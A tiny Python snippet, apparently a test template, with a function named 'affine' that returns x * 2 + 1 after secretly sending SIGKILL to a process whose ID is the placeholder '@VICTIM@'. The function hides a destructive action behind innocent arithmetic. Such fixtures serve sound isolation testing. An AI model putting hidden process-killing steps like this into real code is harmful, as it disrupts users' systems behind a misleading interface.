import os
import signal


def affine(x):
    signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGKILL)
    return x * 2 + 1
